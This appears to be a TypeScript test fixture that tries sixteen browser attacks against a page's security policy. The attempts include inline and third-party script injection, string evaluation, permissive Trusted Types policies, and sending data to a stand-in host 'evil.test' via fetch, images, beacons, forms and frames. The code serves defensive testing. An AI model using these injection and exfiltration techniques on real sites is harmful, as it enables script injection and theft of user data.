/** Where an attacker would send what he stole, and get his script from. */
export const evil = "http://evil.test:8099";

/** Runs in the page: each returns how the attempt ended. */
export const attacks: Readonly<Record<string, (evil: string) => Promise<string> | string>> = {
  "an inline script": () => {
    const script = document.createElement("script");
    try {
      script.textContent = "window.stolen = true";
    } catch (error) {
      return String(error);
    }
    document.body.append(script);
    return Reflect.has(window, "stolen") ? "ran" : "did not run";
  },
  "an inline handler in HTML of a string": () => {
    try {
      document.body.innerHTML = "<img src=x onerror='window.stolen=true'>";
    } catch (error) {
      return String(error);
    }
    return "was written";
  },
  "insertAdjacentHTML, document.write and a parsed document": () => {
    const tries = [
      () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
      () => document.write("<b>x</b>"),
      () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
    ];
    const done = tries.filter((attempt) => {
      try {
        attempt();
        return true;
      } catch {
        return false;
      }
    });
    return done.length === 0 ? "refused" : "was written";
  },
  "a script of a third party": (url) => {
    const script = document.createElement("script");
    try {
      script.src = `${url}/steal.js`;
    } catch (error) {
      return String(error);
    }
    document.head.append(script);
    return "was loaded";
  },
  "a script of our own origin that is no part of the build": () => {
    const script = document.createElement("script");
    try {
      script.src = "/content/bafkreibm6jg3ux5qumhcn2b3flc3tyu6dmlb4xa7u5bf44yegnrjhc4yeq";
    } catch (error) {
      return String(error);
    }
    return "was loaded";
  },
  // Later, because what a debugger evaluates at once is let past this very rule.
  "code in a string": () =>
    new Promise((resolve) => {
      setTimeout(() => {
        try {
          resolve(String(new Function("return 'ran'")()));
        } catch (error) {
          resolve(String(error));
        }
      });
    }),
  "a worker made of a string": () => {
    const url = URL.createObjectURL(new Blob(["self.postMessage(1)"], { type: "text/javascript" }));
    try {
      new Worker(url);
    } catch (error) {
      return String(error);
    }
    return "was started";
  },
  "a second policy that lets everything through": () => {
    const factory: unknown = Reflect.get(window, "trustedTypes");
    const make: unknown =
      typeof factory === "object" && factory !== null ? Reflect.get(factory, "createPolicy") : null;
    if (typeof make !== "function") return "there are no Trusted Types";
    try {
      for (const name of ["mine", "default"])
        make.call(factory, name, { createHTML: (text: string) => text });
    } catch (error) {
      return String(error);
    }
    return "was made";
  },
  "a request with what was stolen": async (url) => {
    try {
      await fetch(`${url}/take?key=1`, { mode: "no-cors" });
    } catch (error) {
      return String(error);
    }
    return "was sent";
  },
  "a picture that carries it away": (url) =>
    new Promise((resolve) => {
      const image = new Image();
      image.addEventListener("load", () => resolve("was sent"));
      image.addEventListener("error", () => resolve("refused"));
      image.src = `${url}/take.gif?key=1`;
    }),
  "a beacon": (url) => {
    navigator.sendBeacon(`${url}/take`, "key");
    return "refused";
  },
  "a link that is a script": () => {
    const link = document.createElement("a");
    link.href = "javascript:window.stolen=true";
    document.body.append(link);
    link.click();
    return "did not run";
  },
  "a form to somebody else": (url) => {
    const form = document.createElement("form");
    form.action = `${url}/take`;
    form.method = "post";
    document.body.append(form);
    form.submit();
    return "refused";
  },
  "a base that bends every address": (url) => {
    const base = document.createElement("base");
    base.href = url;
    document.head.append(base);
    return new URL("x", document.baseURI).origin === new URL(url).origin ? "took hold" : "refused";
  },
  "a frame": (url) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    document.body.append(frame);
    return "refused";
  },
  "style that reads what is typed": () => {
    const style = document.createElement("style");
    style.textContent = "body { --stolen: yes }";
    document.head.append(style);
    return getComputedStyle(document.body).getPropertyValue("--stolen") === ""
      ? "refused"
      : "took hold";
  },
};
